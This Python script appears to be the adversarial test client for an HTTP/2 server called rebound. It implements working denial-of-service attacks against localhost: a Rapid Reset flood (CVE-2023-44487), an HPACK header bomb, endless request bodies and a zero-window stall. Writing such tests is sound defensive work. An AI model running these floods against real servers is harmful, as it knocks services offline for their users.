#!/usr/bin/python3
"""Hostile HTTP/2 clients (hyper-h2, Debian's python3-h2) for rebound's adversarial tests:
each speaks HTTP/2 correctly enough to get past the preface and SETTINGS, then does what an
attacker does. Every mode prints one JSON line with what it saw.

  h2_attack.py rapid-reset PORT AUTHORITY PATH N
      N streams, each a request (HEADERS with END_STREAM) followed in the same write by its
      RST_STREAM(CANCEL), ten streams a write (CVE-2023-44487).
  h2_attack.py hpack-bomb PORT AUTHORITY BLOCKS
      header blocks whose one 4 KB field is indexed once, then referenced by one-byte
      indexes 1,000 times: each block decodes to ~4 MB.
  h2_attack.py hold-bodies PORT AUTHORITY PATH STREAMS SECONDS DONE_FILE [HOLD]
      STREAMS requests whose bodies never end: DATA is sent on every stream for as long as
      rebound grants flow-control credit; after SECONDS the bytes sent are written to
      DONE_FILE and the connection is held open for HOLD seconds (default: until killed).
  h2_attack.py zero-window PORT AUTHORITY PATH STREAMS SECONDS [SIZE]
      STREAMS calls of a SIZE-byte message (default 5), with an initial window of 0 that is
      never opened: the answers can never be sent. Reads what comes for SECONDS.

The output names `goaway` (the error code of a GOAWAY received, or null), `closed` (the
server closed the connection), `responses` (response heads received, by status) and `resets`
(streams the server reset).
"""
import json
import os
import socket
import struct
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings


def _connect(port, settings=None):
    s = socket.create_connection(("127.0.0.1", port))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    c.initiate_connection()
    if settings:
        c.update_settings(settings)
    s.sendall(c.data_to_send())
    return s, c


def _head(authority, path, extra=()):
    return [(":method", "POST"), (":scheme", "http"), (":authority", authority), (":path", path),
            ("content-type", "application/grpc"), ("te", "trailers")] + list(extra)


class _Seen:
    def __init__(self):
        self.goaway = None
        self.closed = False
        self.resets = 0
        self.responses = {}

    def report(self, **more):
        out = {"goaway": self.goaway, "closed": self.closed, "resets": self.resets, "responses": self.responses}
        out.update(more)
        return out


def _pump(s, c, seen, timeout):
    """Reads what has arrived (waiting at most `timeout`), feeding hyper-h2; False once closed."""
    s.settimeout(timeout)
    try:
        data = s.recv(65536)
    except (socket.timeout, BlockingIOError):
        return True
    except OSError:
        seen.closed = True
        return False
    if not data:
        seen.closed = True
        return False
    try:
        events = c.receive_data(data)
    except h2.exceptions.ProtocolError:
        seen.closed = True
        return False
    for e in events:
        if isinstance(e, h2.events.ConnectionTerminated):
            seen.goaway = int(e.error_code)
        elif isinstance(e, h2.events.StreamReset):
            seen.resets += 1
        elif isinstance(e, h2.events.ResponseReceived):
            head = {k.decode() if isinstance(k, bytes) else k: v.decode() if isinstance(v, bytes) else v
                    for k, v in e.headers}
            # A trailers-only gRPC answer is counted by its grpc-status ("grpc-8"), and by
            # rebound-error when it has one ("grpc-8 bad_request").
            if "grpc-status" in head:
                status = "grpc-" + head["grpc-status"]
                if "rebound-error" in head:
                    status += " " + head["rebound-error"]
            else:
                status = head.get(":status", "?")
            seen.responses[status] = seen.responses.get(status, 0) + 1
    try:
        s.sendall(c.data_to_send())
    except OSError:
        seen.closed = True
        return False
    return True


def _drain(s, c, seen, seconds):
    end = time.monotonic() + seconds
    while time.monotonic() < end and _pump(s, c, seen, 0.1):
        pass


def rapid_reset(port, authority, path, n):
    s, c = _connect(port)
    seen = _Seen()
    _pump(s, c, seen, 0.5)
    sent = 0
    try:
        while sent < n and not seen.closed and seen.goaway is None:
            for _ in range(10):
                sid = c.get_next_available_stream_id()
                c.send_headers(sid, _head(authority, path), end_stream=True)
                c.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
                sent += 1
            s.sendall(c.data_to_send())
            _pump(s, c, seen, 0.001)
    except (OSError, h2.exceptions.ProtocolError):
        seen.closed = True
    _drain(s, c, seen, 1.0)
    return seen.report(sent=sent)


def hpack_bomb(port, authority, blocks):
    s, c = _connect(port)
    seen = _Seen()
    _pump(s, c, seen, 0.5)
    big = "a" * 4000
    sent = 0
    try:
        for _ in range(blocks):
            if seen.closed or seen.goaway is not None:
                break
            sid = c.get_next_available_stream_id()
            c.send_headers(sid, _head(authority, "/bomb", [("x-bomb", big)] * 1000), end_stream=True)
            s.sendall(c.data_to_send())
            sent += 1
            _pump(s, c, seen, 0.05)
    except (OSError, h2.exceptions.ProtocolError):
        seen.closed = True
    _drain(s, c, seen, 2.0)
    return seen.report(sent=sent)


def hold_bodies(port, authority, path, streams, seconds, done_file, hold):
    s, c = _connect(port)
    seen = _Seen()
    _pump(s, c, seen, 0.5)
    ids = []
    for _ in range(streams):
        sid = c.get_next_available_stream_id()
        c.send_headers(sid, _head(authority, path), end_stream=False)
        ids.append(sid)
    s.sendall(c.data_to_send())
    chunk = b"x" * 16384
    sent = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end and not seen.closed:
        progressed = False
        for sid in ids:
            try:
                n = min(len(chunk), c.local_flow_control_window(sid), c.max_outbound_frame_size)
            except (h2.exceptions.StreamClosedError, KeyError):
                continue
            if n <= 0:
                continue
            try:
                c.send_data(sid, chunk[:n])
            except h2.exceptions.H2Error:
                continue
            sent += n
            progressed = True
        try:
            s.sendall(c.data_to_send())
        except OSError:
            seen.closed = True
            break
        _pump(s, c, seen, 0.0 if progressed else 0.05)
    with open(done_file + ".tmp", "w") as f:
        f.write(json.dumps(seen.report(sent=sent)))
    os.rename(done_file + ".tmp", done_file)
    end = None if hold is None else time.monotonic() + hold
    while (end is None or time.monotonic() < end) and _pump(s, c, seen, 0.1):
        pass
    return seen.report(sent=sent)


def zero_window(port, authority, path, streams, seconds, size):
    s, c = _connect(port, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    seen = _Seen()
    _pump(s, c, seen, 0.5)
    message = struct.pack(">BI", 0, size) + b"m" * size
    left = {}
    for _ in range(streams):
        sid = c.get_next_available_stream_id()
        c.send_headers(sid, _head(authority, path), end_stream=False)
        left[sid] = memoryview(message)
    s.sendall(c.data_to_send())
    # The requests go out as fast as rebound's credit allows; the answers can never come back.
    end = time.monotonic() + seconds
    while time.monotonic() < end and not seen.closed:
        for sid in list(left):
            try:
                n = min(len(left[sid]), c.local_flow_control_window(sid), c.max_outbound_frame_size)
                if n > 0 or not left[sid]:
                    c.send_data(sid, bytes(left[sid][:n]), end_stream=(n == len(left[sid])))
                    left[sid] = left[sid][n:]
                    if not left[sid]:
                        del left[sid]
            except h2.exceptions.H2Error:
                left.pop(sid, None)
        try:
            s.sendall(c.data_to_send())
        except OSError:
            seen.closed = True
            break
        # Reads (so TCP never pushes back) but never grants a byte of window.
        _pump(s, c, seen, 0.01 if left else 0.1)
    return seen.report()


if __name__ == "__main__":
    mode, a = sys.argv[1], sys.argv[2:]
    if mode == "rapid-reset":
        out = rapid_reset(int(a[0]), a[1], a[2], int(a[3]))
    elif mode == "hpack-bomb":
        out = hpack_bomb(int(a[0]), a[1], int(a[2]))
    elif mode == "hold-bodies":
        out = hold_bodies(int(a[0]), a[1], a[2], int(a[3]), float(a[4]), a[5], float(a[6]) if len(a) > 6 else None)
    elif mode == "zero-window":
        out = zero_window(int(a[0]), a[1], a[2], int(a[3]), float(a[4]), int(a[5]) if len(a) > 5 else 5)
    else:
        raise SystemExit(__doc__)
    print(json.dumps(out))
